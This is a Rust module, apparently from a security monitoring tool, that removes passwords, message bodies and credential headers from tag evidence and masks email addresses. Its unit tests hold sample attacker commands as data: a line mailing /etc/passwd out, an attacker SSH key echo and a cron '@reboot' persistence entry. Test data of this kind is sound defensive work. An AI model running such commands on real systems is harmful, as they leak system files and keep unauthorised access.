//! What a tag's evidence may carry (DESIGN §2.12): no raw email address, password, message
//! body or credential header, whichever rule or predicate made the evidence.
//!
//! Applied to every tag's evidence as the tag is made ([`scrub`]):
//! * a field named as a secret or a body ([`SECRET_FIELDS`]) is left out, at any depth;
//! * the value of a credential header (`Authorization`, `Cookie`, …, by key, case
//!   insensitive, at any depth) becomes `*`;
//! * an email address in any string keeps only its domain: `alice@corp.example` becomes
//!   `*@corp.example`. An address is a local part, `@` and a domain name of at least two
//!   labels ending in letters, so `root@10.0.0.5` (an ssh target) and `user@host` stay.
//!
//! Ids (session, source, attacker) are the tag's identity and are not rewritten.

use std::sync::OnceLock;

use regex::Regex;

use crate::json::Json;

/// Payload fields whose values never enter evidence.
pub const SECRET_FIELDS: &[&str] = &[
    "password",
    "passwd",
    "passphrase",
    "new_password",
    "old_password",
    "secret",
    "client_secret",
    "api_key",
    "access_token",
    "private_key",
    "body",
    "body_text",
    "body_html",
    "note_text",
    "raw_message",
];

/// Header names whose values are credentials.
const CREDENTIAL_HEADERS: &[&str] =
    &["authorization", "proxy-authorization", "cookie", "set-cookie", "x-api-key", "x-auth-token"];

fn address() -> &'static Regex {
    static ADDRESS: OnceLock<Regex> = OnceLock::new();
    ADDRESS.get_or_init(|| {
        Regex::new(
            r"[\p{L}\p{N}.!#$%&'*+/=?^_`{|}~-]+@((?:[\p{L}\p{N}](?:[\p{L}\p{N}-]*[\p{L}\p{N}])?\.)+\p{L}{2,63})\b",
        )
        .expect("the address pattern compiles")
    })
}

/// `text` with the local part of every email address replaced by `*`.
pub fn scrub_text(text: &str) -> Option<String> {
    if !text.contains('@') {
        return None;
    }
    let re = address();
    re.is_match(text).then(|| re.replace_all(text, "*@$1").into_owned())
}

/// Removes from `evidence` what it may not carry (see the module doc).
pub fn scrub(evidence: &mut Json) {
    match evidence {
        Json::Str(text) => {
            if let Some(clean) = scrub_text(text) {
                *text = clean;
            }
        }
        Json::Arr(items) => items.iter_mut().for_each(scrub),
        Json::Obj(fields) => {
            fields.retain(|(key, _)| !SECRET_FIELDS.iter().any(|s| key.eq_ignore_ascii_case(s)));
            for (key, value) in fields.iter_mut() {
                if CREDENTIAL_HEADERS.iter().any(|h| key.eq_ignore_ascii_case(h)) {
                    *value = Json::Str("*".to_string());
                } else {
                    scrub(value);
                }
            }
        }
        Json::Null | Json::Bool(_) | Json::Num(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scrubbed(text: &str) -> String {
        let mut json = Json::parse(text).unwrap();
        scrub(&mut json);
        json.to_json_string()
    }

    #[test]
    fn addresses_keep_their_domain_and_secrets_go() {
        assert_eq!(
            scrubbed(r#"{"command_text":"mail -s hi Carol.Addr+x@Victim.example < /etc/passwd","password":"S3cret"}"#),
            r#"{"command_text":"mail -s hi *@Victim.example < /etc/passwd"}"#
        );
        assert_eq!(
            scrubbed(
                r#"{"headers":{"Host":"h.example","Authorization":"Basic YTpi","COOKIE":"sid=1"},"x":[{"Body_Text":"hi"}]}"#
            ),
            r#"{"headers":{"Host":"h.example","Authorization":"*","COOKIE":"*"},"x":[{}]}"#
        );
        assert_eq!(scrub_text("an jörg.müller@bücher.example").as_deref(), Some("an *@bücher.example"));
        for kept in ["ssh root@10.0.0.5", "echo ssh-rsa AAAA attacker@kali", "@reboot /tmp/.x", "a@b"] {
            assert_eq!(scrub_text(kept), None, "{kept}");
        }
    }
}
